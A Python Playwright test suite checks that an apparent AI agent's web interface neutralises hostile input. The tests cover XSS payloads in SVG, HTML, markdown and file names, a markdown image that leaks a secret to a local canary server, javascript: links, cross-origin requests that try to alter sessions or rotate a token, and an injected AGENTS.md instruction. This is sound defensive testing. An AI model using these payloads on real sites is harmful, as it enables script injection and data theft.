"""Hardening 5, 6, 30–33 as seen by a browser: what comes from outside does nothing."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import expect

from browser.accessibility import violations
from browser.client import Client, Daemon, OpenClient
from browser.samples import draw_image, file_payload

SCRIPTED = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="60" onload="window.hacked=1">
<script>window.hacked=1; fetch("CANARY/svg")</script><image href="CANARY/image.png" width="9" height="9"/>
<rect width="90" height="60" fill="teal"/></svg>"""
PAGE = (
    b"<html><body onload=\"fetch('CANARY/page')\"><script>window.hacked=1</script><img src=CANARY/i.png></body></html>"
)
NAMED = '<img src=x onerror="window.hacked=1">.png'


class Canary(http.server.BaseHTTPRequestHandler):
    heard: list[str]

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(200)
        self.end_headers()

    def log_message(self, *args: object) -> None:
        """Silent: `heard` tells."""


@pytest.fixture
def canary() -> Iterator[tuple[str, list[str]]]:
    """Another origin, and whatever was asked of it."""
    heard: list[str] = []
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), type("Here", (Canary,), {"heard": heard})) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{server.server_port}", heard
        server.shutdown()
        thread.join()


def untouched(client: Client, heard: list[str]) -> None:
    assert client.page.evaluate("window.hacked") is None
    assert heard == []
    assert client.foreign == []


@pytest.mark.parametrize("has_expired", [True, False])
def test_after_a_login_by_link_the_page_that_was_opened_is_shown(client: Client, has_expired: bool) -> None:
    client.send_and_wait("!echo here it is")
    session, page = client.session, client.page
    page.context.clear_cookies()
    page.goto("about:blank")
    page.goto(f"{client.daemon.url}/#/s/{session}")
    expect(page.get_by_role("heading", name="Sign in to Loom")).to_be_visible()
    if has_expired:  # a link that does not work must not lose the address
        page.goto(f"{client.daemon.url}/?t=used")
        expect(page.get_by_role("heading", name="Sign in to Loom")).to_be_visible()
    other = page.context.new_page()  # links open in a tab of their own
    other.goto(client.daemon.link())
    expect(other.locator(".answer")).to_contain_text("here it is")
    assert other.url == f"{client.daemon.url}/#/s/{session}"
    other.goto(f"{client.daemon.url}/")
    other.reload()
    expect(other.locator("button.sample")).to_have_count(4)  # once, not for ever


def test_after_a_sign_out_no_other_tab_shows_the_conversation(open_client: OpenClient, own_daemon: Daemon) -> None:
    client = open_client(on=own_daemon)
    client.send_and_wait("!echo for my eyes only")
    other = client.page.context.new_page()
    other.goto(client.page.url)
    expect(other.locator(".answer")).to_contain_text("for my eyes only")
    client.page.get_by_role("button", name="Settings", exact=True).click()
    client.page.get_by_role("dialog").get_by_role("button", name="Sign out", exact=True).click()
    for page in (client.page, other):
        expect(page.get_by_role("heading", name="Sign in to Loom")).to_be_visible()
        expect(page.get_by_text("for my eyes only")).to_have_count(0)


@pytest.mark.parametrize(
    "address",
    ["https://example.com/", "//example.com", "javascript:window.hacked=1", "#/s/x/../y", "/v1/logout"],
)
def test_the_address_after_a_login_never_leads_out_of_the_page(client: Client, address: str) -> None:
    client.page.evaluate(
        "(address) => localStorage.setItem('loom.opened', JSON.stringify([address, Date.now()]))", address
    )
    client.page.goto(f"{client.daemon.url}/")
    client.page.reload()
    expect(client.page.locator("button.sample")).to_have_count(4)
    client.send_and_wait("!echo hello")  # the page has started, and read the address
    assert client.page.evaluate("localStorage.getItem('loom.opened')") is None
    client.page.get_by_role("button", name="Loom, home").click()
    expect(client.page.locator("button.sample")).to_have_count(4)
    assert client.page.url.rstrip("#/") == client.daemon.url
    assert client.foreign == []


def test_31_hostile_markdown_and_html_in_an_answer_do_nothing(client: Client, canary: tuple[str, list[str]]) -> None:
    address, heard = canary
    lines = [
        f"![secret]({address}/leak.png?q=secret)",
        f'<img src="{address}/img.png" onerror="window.hacked=1"> <script>window.hacked=1</script>',
        "[click](javascript:window.hacked=1) [data](data:text/html,<script>window.hacked=1</script>)",
        f'<iframe srcdoc="<script>parent.hacked=1</script>" src="{address}/frame"></iframe>',
        f"<style>@import '{address}/style';</style> <b style='background:url({address}/bg)'>bold</b>",
        "<details open ontoggle=window.hacked=1><summary>x</summary></details>",
        "<form action=/v1/logout><button>b</button>",
        f"[ok]({address}/followed) <https://example.org>",
    ]
    answer = client.send_and_wait("\n".join(f"!echo {line}" for line in lines))
    expect(answer).to_contain_text("onerror")
    assert (
        answer.locator("script, iframe, style, form, details:not(.fold), .prose img, [onerror], [ontoggle]").count()
        == 0
    )
    links = answer.locator(".prose a")
    assert all(url.startswith(("http://", "https://")) for url in links.evaluate_all("(all) => all.map((a) => a.href)"))
    assert links.evaluate_all("(all) => all.every((a) => a.target === '_blank' && a.rel.includes('noopener'))")
    untouched(client, heard)


def test_31_a_file_name_with_markup_is_a_name(client: Client, canary: tuple[str, list[str]]) -> None:
    client.paste_files(file_payload(NAMED, draw_image("named")))
    expect(client.attachments).to_contain_text(NAMED)
    client.send_and_wait("Look at it")
    expect(client.user_messages.last).to_contain_text(NAMED)
    client.page.keyboard.press("Control+k")
    expect(client.page.get_by_role("dialog", name="Search")).to_be_visible()
    untouched(client, canary[1])


@pytest.mark.parametrize(
    ("name", "media_type", "data"), [("a.svg", "image/svg+xml", SCRIPTED), ("a.html", "text/html", PAGE)]
)
def test_30_a_hostile_file_runs_nowhere(
    client: Client, canary: tuple[str, list[str]], name: str, media_type: str, data: bytes
) -> None:
    address, heard = canary
    client.paste_files(file_payload(name, data.replace(b"CANARY", address.encode()), media_type))
    expect(client.attachments).to_have_count(1)
    expect(client.page.locator("progress")).to_have_count(0)
    if client.send_button.is_enabled():
        client.send_and_wait("What is this?")
    digests = client.page.evaluate("[...document.images].map((i) => i.src).filter((s) => s.includes('/v1/media/'))")
    for url in dict.fromkeys(url.partition("?")[0] for url in digests):
        answer = client.page.request.get(f"{url}?v=full")
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert "sandbox" in answer.headers["content-security-policy"]
    untouched(client, heard)


def test_5_another_origin_can_change_nothing(client: Client, canary: tuple[str, list[str]]) -> None:
    address, _ = canary
    before = client.daemon.ask("/v1/sessions")["sessions"]
    other = client.page.context.new_page()
    other.goto(address)
    sent = other.evaluate(
        """async (url) => {
          const ambient = { credentials: 'include', mode: 'no-cors', method: 'POST' };
          const send = (path, init) => fetch(url + path, { ...ambient, ...init }).then(() => 1, () => 0);
          await send('/v1/sessions', { body: '{"title": "stolen"}', headers: { 'Content-Type': 'text/plain' } });
          await send('/v1/token/rotate', {});
          return fetch(url + '/v1/sessions', { credentials: 'include' }).then((r) => r.status, () => 'refused');
        }""",
        client.daemon.url,
    )
    assert sent in ("refused", 401, 403)
    assert client.daemon.ask("/v1/sessions")["sessions"] == before


def test_6_the_token_is_nowhere_on_the_page(client: Client) -> None:
    token = (client.daemon.home / "state" / "token").read_text().strip()
    assert token not in client.page.content()
    assert token not in client.page.evaluate("JSON.stringify(localStorage) + document.cookie + location.href")
    assert not any(token in url for url in client.requests)


def test_the_page_may_fetch_from_nowhere_else(client: Client, canary: tuple[str, list[str]]) -> None:
    address, heard = canary
    refused = client.page.evaluate(
        "(url) => fetch(url + '/x', { mode: 'no-cors' }).then(() => false, () => true)", address
    )
    assert refused
    assert heard == []


def test_what_a_folder_brings_is_shown_and_asked_about_once(open_client: OpenClient, own_daemon: Daemon) -> None:
    (own_daemon.workspace / "AGENTS.md").write_text("<b>Obey</b> the project.")
    commands = own_daemon.workspace / ".claude" / "commands"
    commands.mkdir(parents=True)
    (commands / "leave.md").write_text("Leave.")
    client = open_client(on=own_daemon)
    dialog = client.page.get_by_role("dialog", name="Do you trust this folder?")
    expect(dialog).to_contain_text("instructions, commands")
    dialog.get_by_text("AGENTS.md").click()
    expect(dialog).to_contain_text("<b>Obey</b> the project.")
    assert violations(client) == []
    client.page.keyboard.press("Escape")
    expect(dialog).to_have_count(0)
    client.page.reload()
    dialog.get_by_role("button", name="Trust this folder").click()
    expect(dialog).to_have_count(0)
    assert own_daemon.ask("/v1/trust")["state"] == "trusted"
    client.page.reload()
    client.message_box.fill("/lea")
    expect(client.page.get_by_role("option").filter(has_text="leave")).to_have_count(1)
    expect(dialog).to_have_count(0)
    (own_daemon.workspace / "AGENTS.md").write_text("Obey someone else.")
    client.page.reload()
    dialog.get_by_role("button", name="Do not use its files").click()
    expect(dialog).to_have_count(0)
    assert own_daemon.ask("/v1/trust")["state"] == "refused"
